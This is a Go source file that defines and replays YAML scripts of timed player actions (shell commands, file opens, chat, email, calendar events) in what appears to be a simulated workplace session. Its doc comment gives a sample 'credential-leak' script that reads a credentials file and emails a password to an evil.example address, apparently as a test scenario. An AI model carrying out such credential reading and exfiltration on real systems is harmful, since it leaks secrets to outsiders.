package simulation

import (
	"errors"
	"fmt"
	"os"
	"sort"

	"github.com/nvandessel/clawback/internal/models"
	"github.com/nvandessel/clawback/internal/session"
	"gopkg.in/yaml.v3"
)

// ErrEmptyAction is returned for a script action that does nothing.
var ErrEmptyAction = errors.New("action has no operation")

// Script is a list of player actions keyed by tick.
//
//	name: credential-leak
//	actions:
//	  - at: 3
//	    exec: cat /home/user/.secrets/credentials.env
//	  - at: 10
//	    email: {to: someone@evil.example, subject: creds, body: "password hunter2"}
type Script struct {
	Name    string   `yaml:"name"`
	Actions []Action `yaml:"actions"`
}

// Action is one player operation. Exactly one operation field is set.
type Action struct {
	// At is the tick the action runs at, before that tick is advanced.
	At int `yaml:"at"`

	Exec     string          `yaml:"exec,omitempty"`
	Open     string          `yaml:"open,omitempty"`
	Search   string          `yaml:"search,omitempty"`
	Tool     string          `yaml:"tool,omitempty"`
	Chat     *ChatAction     `yaml:"chat,omitempty"`
	Email    *EmailAction    `yaml:"email,omitempty"`
	Calendar *CalendarAction `yaml:"calendar,omitempty"`
}

// ChatAction sends a chat message. An empty NPC means the active coworker.
type ChatAction struct {
	NPC  string `yaml:"npc,omitempty"`
	Text string `yaml:"text"`
}

// EmailAction sends an email.
type EmailAction struct {
	To      string `yaml:"to"`
	Subject string `yaml:"subject"`
	Body    string `yaml:"body"`
}

// CalendarAction schedules an event. Day 0 means today.
type CalendarAction struct {
	Title string `yaml:"title"`
	Day   int    `yaml:"day,omitempty"`
	Start int    `yaml:"start"`
	End   int    `yaml:"end"`
}

// ParseScript decodes a YAML script and sorts its actions by tick.
func ParseScript(data []byte) (*Script, error) {
	var s Script
	if err := yaml.Unmarshal(data, &s); err != nil {
		return nil, fmt.Errorf("parsing script: %w", err)
	}
	for i, a := range s.Actions {
		if a.At < 0 {
			return nil, fmt.Errorf("parsing script: action %d: negative tick %d", i, a.At)
		}
		if a.ops() != 1 {
			if a.ops() == 0 {
				return nil, fmt.Errorf("parsing script: action %d: %w", i, ErrEmptyAction)
			}
			return nil, fmt.Errorf("parsing script: action %d: more than one operation", i)
		}
	}
	sort.SliceStable(s.Actions, func(i, j int) bool { return s.Actions[i].At < s.Actions[j].At })
	return &s, nil
}

// LoadScript reads and parses a script file.
func LoadScript(path string) (*Script, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("reading script: %w", err)
	}
	return ParseScript(data)
}

// Due returns the actions scheduled for tick.
func (s *Script) Due(tick int) []Action {
	if s == nil {
		return nil
	}
	var out []Action
	for _, a := range s.Actions {
		if a.At == tick {
			out = append(out, a)
		}
	}
	return out
}

func (a Action) ops() int {
	n := 0
	for _, set := range []bool{
		a.Exec != "", a.Open != "", a.Search != "", a.Tool != "",
		a.Chat != nil, a.Email != nil, a.Calendar != nil,
	} {
		if set {
			n++
		}
	}
	return n
}

// String names the action for logs and error messages.
func (a Action) String() string {
	switch {
	case a.Exec != "":
		return "exec " + a.Exec
	case a.Open != "":
		return "open " + a.Open
	case a.Search != "":
		return "search " + a.Search
	case a.Tool != "":
		return "tool " + a.Tool
	case a.Chat != nil:
		return "chat " + a.Chat.Text
	case a.Email != nil:
		return "email " + a.Email.To
	case a.Calendar != nil:
		return "calendar " + a.Calendar.Title
	default:
		return "noop"
	}
}

// Apply performs the action on sess.
func (a Action) Apply(sess *session.Session) error {
	var err error
	switch {
	case a.Exec != "":
		_, err = sess.Exec(a.Exec)
	case a.Open != "":
		_, err = sess.OpenFile(a.Open)
	case a.Search != "":
		_, err = sess.Search(a.Search)
	case a.Tool != "":
		err = sess.OpenTool(models.ToolID(a.Tool))
	case a.Chat != nil:
		_, err = sess.SendChat(a.Chat.NPC, a.Chat.Text)
	case a.Email != nil:
		_, err = sess.SendEmail(a.Email.To, a.Email.Subject, a.Email.Body)
	case a.Calendar != nil:
		_, _, err = sess.AddEvent(a.Calendar.Title, a.Calendar.Day, a.Calendar.Start, a.Calendar.End)
	default:
		err = ErrEmptyAction
	}
	if err != nil {
		return fmt.Errorf("%s: %w", a, err)
	}
	return nil
}
